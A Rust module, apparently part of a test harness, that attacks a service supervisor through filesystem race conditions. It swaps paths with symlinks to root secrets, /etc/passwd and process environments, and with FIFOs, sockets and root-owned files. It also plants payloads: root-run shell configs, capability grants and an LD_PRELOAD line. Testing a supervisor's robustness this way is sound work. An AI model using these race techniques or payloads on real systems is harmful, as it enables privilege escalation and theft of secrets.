//! Who owns the volume, and rearranges it while the supervisor works there: names change places with links, FIFOs, sockets, devices,
//! directories and files of root's, as fast as the kernel does it, and come back, so that the supervisor goes on using them.
//!
//! `race SEED AMMUNITION PLACE…`: until it is killed. `AMMUNITION` is a directory with what only root could have made: second names of
//! files of root's, and devices. `PLACE` is a directory; what is in it, to a depth, is what changes places. A directory of root's that
//! lies beside a name, as `.roots-N`, can only change places there.

use crate::dice::Dice;
use crate::tools::say;
use rustix::fs::{AtFlags, CWD, FileType, Mode, RenameFlags};
use std::collections::VecDeque;
use std::fs;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::os::unix::net::UnixListener;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

/// Where links lead: files and directories of root's, devices, what never ends, what waits, the supervisor's own.
const LEADS: [&str; 16] = [
    "/root/secret/file",
    "/root/secret/open",
    "/root/secret",
    "/root",
    "/etc/passwd",
    "/etc",
    "/etc/hermes-sup/services",
    "/run/hermes-sup",
    "/dev/zero",
    "/dev/tty",
    "/dev/full",
    "/proc/1/environ",
    "/proc/self/environ",
    "/proc/self/fd/1",
    "../../../../root/secret/file",
    "itself",
];
/// Names that the supervisor makes or reads, and that need not be there.
const NAMES: [&str; 24] = [
    "logs",
    "logs/container-boot.log",
    "logs/container-boot.log.1",
    "logs/gateways",
    "logs/gateways/coder",
    "logs/gateways/coder/current",
    "logs/gateways/flood",
    "logs/gateways/flood/current",
    "services",
    "services/gateway.toml",
    "services/planted.toml",
    "profiles",
    "profiles/coder",
    "profiles/coder/SOUL.md",
    "profiles/coder/gateway_state.json",
    "profiles/coder/gateway_state.json.tmp",
    "profiles/coder/gateway.lock",
    "profiles/coder/gateway.pid",
    "profiles/coder/gateway.sock",
    "profiles/coder/.gateway-planned-stop.json",
    "profiles/coder/.gateway-planned-stop.json.tmp",
    "profiles/coder/state/gateway.lifecycle.json",
    "supervisor",
    ".env",
];
/// How deep the places are looked through, and at how many entries of each.
const DEPTH: usize = 5;
const ENTRIES: usize = 400;
/// How often a name changes to and fro before it is left as it was.
const TURNS: u64 = 600;

/// `None` where there is nothing.
fn one_of<'a, T>(dice: &mut Dice, among: &'a [T]) -> Option<&'a T> {
    among.get(dice.roll(among.len().max(1) as u64) as usize)
}

/// Who listens and never answers: so many at a time.
const SILENT: usize = 32;

/// What is put in the place of something.
enum Decoy {
    Made(PathBuf),
    /// Of the ammunition, or beside the target: it goes back.
    Lent(PathBuf, PathBuf),
}

pub fn race(words: &[String]) -> i32 {
    let mut words = words.iter();
    let seed = words.next().and_then(|word| word.parse().ok()).unwrap_or(1);
    let Some(ammunition) = words.next().map(PathBuf::from) else { return 2 };
    let places: Vec<PathBuf> = words.filter(|word| word.starts_with('/')).map(PathBuf::from).collect();
    let mut dice = Dice::new(seed);
    let mut listeners = VecDeque::new();
    // On few processors the race is with somebody who gets one, too.
    // SAFETY: a plain number.
    unsafe { libc::setpriority(libc::PRIO_PROCESS, 0, 10) };
    say("ready race");
    for number in 0_u64.. {
        let Some(target) = pick(&mut dice, &places) else { return 2 };
        // The name of a decoy is nothing that a scan takes for a slot or a definition.
        let decoy = target.with_file_name(format!(".decoy-{seed}-{number}"));
        let Some(decoy) = lay(&mut dice, &target, decoy, &ammunition, &mut listeners) else { continue };
        match &decoy {
            Decoy::Made(decoy) => {
                attack(&mut dice, &target, decoy);
                remove(decoy);
            }
            Decoy::Lent(decoy, home) => {
                attack(&mut dice, &target, decoy);
                if decoy != home {
                    let _ = fs::rename(decoy, home);
                }
            }
        }
        listeners.truncate(SILENT);
    }
    0
}

/// A name to attack: one that is there, or one that the supervisor may make at any time.
fn pick(dice: &mut Dice, places: &[PathBuf]) -> Option<PathBuf> {
    let place = one_of(dice, places)?.clone();
    if dice.roll(2) == 0 {
        return Some(place.join(dice.pick(&NAMES)));
    }
    let mut found = Vec::new();
    below(&place, DEPTH, &mut found);
    found.retain(|path| !is_decoy(path));
    Some(one_of(dice, &found).cloned().unwrap_or(place.join("services")))
}

fn is_decoy(path: &Path) -> bool {
    path.components().any(|part| part.as_os_str().to_string_lossy().starts_with(".decoy-"))
}

fn below(dir: &Path, depth: usize, found: &mut Vec<PathBuf>) {
    for entry in fs::read_dir(dir).into_iter().flatten().flatten().take(ENTRIES) {
        let path = entry.path();
        if depth > 0 && entry.file_type().is_ok_and(|kind| kind.is_dir()) {
            below(&path, depth - 1, found);
        }
        found.push(path);
    }
}

/// Puts something there that the supervisor does not want. `None`: it could not be made.
fn lay(
    dice: &mut Dice,
    target: &Path,
    decoy: PathBuf,
    ammunition: &Path,
    listeners: &mut VecDeque<UnixListener>,
) -> Option<Decoy> {
    let done = match dice.roll(13) {
        0..=3 => match dice.pick(&LEADS) {
            "itself" => symlink(decoy.file_name()?, &decoy).is_ok(),
            lead => symlink(lead, &decoy).is_ok(),
        },
        4 => rustix::fs::mknodat(CWD, &decoy, FileType::Fifo, Mode::from_raw_mode(0o777), 0).is_ok(),
        5 => UnixListener::bind(&decoy).map(|listener| listeners.push_front(listener)).is_ok(),
        6 => fs::create_dir(&decoy).is_ok(),
        7 => fs::File::create(&decoy).and_then(|file| file.set_len(3 << 30)).is_ok(),
        8 => fs::write(&decoy, text(dice)).is_ok() && chmod(&decoy, 0o755),
        9 => fs::write(&decoy, "").is_ok() && chmod(&decoy, 0o000),
        10 => {
            let roots = target.with_file_name(format!(".roots-{}", dice.roll(3)));
            return Some(Decoy::Lent(roots.clone(), roots));
        }
        _ => {
            let all: Vec<PathBuf> =
                fs::read_dir(ammunition).into_iter().flatten().flatten().map(|it| it.path()).collect();
            let one = one_of(dice, &all)?.clone();
            return fs::rename(&one, &decoy).is_ok().then_some(Decoy::Lent(decoy, one));
        }
    };
    done.then_some(Decoy::Made(decoy))
}

fn chmod(path: &Path, mode: u32) -> bool {
    fs::set_permissions(path, PermissionsExt::from_mode(mode)).is_ok()
}

/// Contents that would be something if they were believed. As whom they run is written to where everybody can write.
fn text(dice: &mut Dice) -> String {
    const PROOF: &str = "while read -r key uid rest; do [ \"$key\" != Uid: ] || break; done </proc/self/status; echo $uid >>/tmp/proof";
    let texts = [
        format!("#!/bin/sh\n{PROOF}\n"),
        format!("command = [\"/bin/sh\", \"-c\", '{PROOF}']\nuser = \"root\"\n"),
        format!("command = [\"/bin/sh\", \"-c\", '{PROOF}']\n[security]\ncapabilities = [\"ALL\"]\n"),
        "{\"gateway_state\":\"running\",\"pid\":1,\"served_profiles\":[\"coder\"]}".to_owned(),
        "{\"desired_state\":\"stopped\"}".to_owned(),
        "LD_PRELOAD=/opt/data/evil.so\nPATH=/opt/data/bin\n".to_owned(),
        "\u{1b}[2J\0".repeat(1000),
    ];
    one_of(dice, &texts).cloned().unwrap_or_default()
}

/// Target and decoy change places, quickly and an even number of times, or once, for some milliseconds.
fn attack(dice: &mut Dice, target: &Path, decoy: &Path) {
    let exchange = || rustix::fs::renameat_with(CWD, target, CWD, decoy, RenameFlags::EXCHANGE).is_ok();
    if dice.roll(3) > 0 {
        for _ in 0..2 * dice.roll(TURNS) {
            if !exchange() {
                break;
            }
        }
        return;
    }
    let lasts = Duration::from_micros(dice.roll(20_000));
    if exchange() {
        wait(lasts);
        exchange();
    } else if fs::rename(decoy, target).is_ok() {
        // Nothing was there: until the supervisor has looked, and then it can be made.
        wait(lasts);
        let _ = fs::rename(target, decoy);
    } else if dice.roll(4) == 0 {
        let _ = fs::remove_file(target);
    }
}

/// Busy: the names are to be as they are for so long, and not until a timer fires.
fn wait(lasts: Duration) {
    let until = Instant::now() + lasts;
    while Instant::now() < until {
        std::hint::spin_loop();
    }
}

fn remove(decoy: &Path) {
    // What has changed places with it for good may be a directory with everything in it: that stays, under this name.
    if rustix::fs::unlinkat(CWD, decoy, AtFlags::empty()).is_err() {
        let _ = rustix::fs::unlinkat(CWD, decoy, AtFlags::REMOVEDIR);
    }
}
